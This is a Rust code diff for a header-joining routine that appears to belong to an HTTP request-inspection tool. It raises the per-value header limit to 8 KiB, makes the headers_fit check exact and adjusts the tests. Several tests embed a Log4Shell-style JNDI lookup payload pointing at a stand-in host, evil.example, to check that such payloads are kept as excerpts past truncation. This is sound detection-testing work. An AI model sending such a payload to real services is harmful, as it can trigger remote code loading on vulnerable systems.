@@ -41,14 +41,15 @@ pub fn truncate(s: &str, max: usize) -> &str {
     &s[..end]
 }
 
-/// Most bytes of one header value; longer values are cut.
-pub const MAX_HEADER_VALUE_BYTES: usize = 2 * 1024;
+/// Most bytes of one header value; longer values are cut. As long as a header line
+/// nginx takes by default: a browser's cookies and a bearer token are read whole.
+pub const MAX_HEADER_VALUE_BYTES: usize = 8 * 1024;
 
-/// Whether headers and the host line fit the byte bound of [`join_headers`] as it
-/// writes them: incoming `host` headers left out, values past
-/// [`MAX_HEADER_VALUE_BYTES`] counted cut, and a value that is not UTF-8 counted as
-/// its lossy reading (each invalid byte three). Past the line bound the essential
-/// headers and payload excerpts are still read.
+/// Whether [`join_headers`] writes headers and the host line whole: every value within
+/// [`MAX_HEADER_VALUE_BYTES`] and all within [`MAX_HEADER_BYTES`], incoming `host`
+/// headers left out, a value that is not UTF-8 counted as its lossy reading (each
+/// invalid byte three). Past the line bound the essential headers and payload excerpts
+/// are still read.
 pub fn headers_fit<'a, I>(host: &str, headers: impl Fn() -> I) -> bool
 where
     I: Iterator<Item = (&'a str, &'a [u8])>,
@@ -56,22 +57,27 @@ where
     let fixed = "host: ".len() + host.len();
     let lines = || headers().filter(|(name, _)| !name.eq_ignore_ascii_case("host"));
     // At most three bytes written per byte read: most requests are decided here.
-    let most: usize = lines()
-        .map(|(name, value)| 3 + name.len() + 3 * value.len().min(MAX_HEADER_VALUE_BYTES))
-        .sum();
-    if fixed + most <= MAX_HEADER_BYTES {
+    let (most, longest) = lines().fold((0, 0), |(sum, longest), (name, value)| {
+        (
+            sum + 3 + name.len() + 3 * value.len(),
+            longest.max(value.len()),
+        )
+    });
+    if fixed + most <= MAX_HEADER_BYTES && 3 * longest <= MAX_HEADER_VALUE_BYTES {
         return true;
     }
-    let written: usize = lines()
-        .map(|(name, value)| {
-            let read = match std::str::from_utf8(value) {
-                Ok(text) => text.len(),
-                Err(_) => String::from_utf8_lossy(value).len(),
-            };
-            3 + name.len() + read.min(MAX_HEADER_VALUE_BYTES)
-        })
-        .sum();
-    fixed + written <= MAX_HEADER_BYTES
+    let mut written = fixed;
+    for (name, value) in lines() {
+        let read = match std::str::from_utf8(value) {
+            Ok(text) => text.len(),
+            Err(_) => String::from_utf8_lossy(value).len(),
+        };
+        if read > MAX_HEADER_VALUE_BYTES {
+            return false;
+        }
+        written += 3 + name.len() + read;
+    }
+    written <= MAX_HEADER_BYTES
 }
 
 /// Most payload excerpts added past the bounds ([`payload_excerpts`]).
@@ -504,7 +510,7 @@ mod tests {
     fn payloads_in_what_the_bounds_cut_are_kept_as_excerpts() {
         let payload = "${jndi:ldap://evil.example/a}";
         // Behind padding in one value, straddling the cut, and in the 78th header.
-        let padded = format!("{}{payload}", "a".repeat(4000));
+        let padded = format!("{}{payload}", "a".repeat(MAX_HEADER_VALUE_BYTES + 1000));
         let straddling = format!("{}{payload}", "a".repeat(MAX_HEADER_VALUE_BYTES - 1));
         let mut many: Vec<(String, String)> = (0..77)
             .map(|i| (format!("x-filler-{i}"), "1".to_owned()))
@@ -546,7 +552,7 @@ mod tests {
         }
         let decoys = format!(
             "{}{}{payload}",
-            "x".repeat(2100),
+            "x".repeat(MAX_HEADER_VALUE_BYTES + 50),
             "${name} ${a:b} ${x:y:z} ".repeat(60)
         );
         let (joined, _) = join([("x-decoys", decoys.as_bytes())]);
@@ -578,10 +584,36 @@ mod tests {
             joined.lines().count(),
             MAX_HEADER_LINES + MAX_PAYLOAD_EXCERPTS
         );
-        let huge = format!("{}${{jndi:{}}}", "a".repeat(3000), "z".repeat(5000));
+        let huge = format!(
+            "{}${{jndi:{}}}",
+            "a".repeat(MAX_HEADER_VALUE_BYTES),
+            "z".repeat(5000)
+        );
         let (joined, _) = join([("x-huge", huge.as_bytes())]);
         let excerpt = joined.lines().last().unwrap();
         assert_eq!(excerpt.len(), "x-huge: ".len() + PAYLOAD_EXCERPT_BYTES);
+    }
+
+    /// What `headers_fit` says fits is what `join_headers` writes whole.
+    #[test]
+    fn headers_fit_exactly_what_is_written_whole() {
+        let cases: Vec<Vec<(&str, Vec<u8>)>> = vec![
+            vec![("cookie", vec![b'c'; MAX_HEADER_VALUE_BYTES])],
+            vec![("cookie", vec![b'c'; MAX_HEADER_VALUE_BYTES + 1])],
+            vec![("x-a", vec![0xff; MAX_HEADER_VALUE_BYTES / 3])],
+            vec![("x-a", vec![0xff; MAX_HEADER_VALUE_BYTES / 3 + 1])],
+            vec![("x-a", vec![b'a'; 8000]), ("x-b", vec![b'b'; 8000])],
+            vec![("x-a", vec![b'a'; 8190]), ("x-b", vec![b'b'; 8190])],
+            vec![("host", vec![b'h'; 20_000]), ("x-a", vec![b'a'; 100])],
+        ];
+        for headers in cases {
+            let fits = headers_fit("www.example.com", || {
+                headers.iter().map(|(n, v)| (*n, v.as_slice()))
+            });
+            let (_, cut) = join(headers.iter().map(|(n, v)| (*n, v.as_slice())));
+            let sizes: Vec<usize> = headers.iter().map(|(_, v)| v.len()).collect();
+            assert_eq!(fits, !cut, "{sizes:?}");
+        }
     }
 
     #[test]
@@ -643,8 +675,15 @@ mod tests {
         assert!(joined.len() <= MAX_HEADER_BYTES);
         assert_eq!(
             joined.lines().count(),
-            8,
-            "the host line and 7 values cut to 2 KiB"
+            3,
+            "the host line and 2 whole values"
+        );
+        assert!(cut);
+        let longer = vec![b'v'; 10_000];
+        let (joined, cut) = join([("cookie", longer.as_slice())]);
+        assert_eq!(
+            joined.len(),
+            "host: www.example.com\ncookie: ".len() + MAX_HEADER_VALUE_BYTES
         );
         assert!(cut);
     }
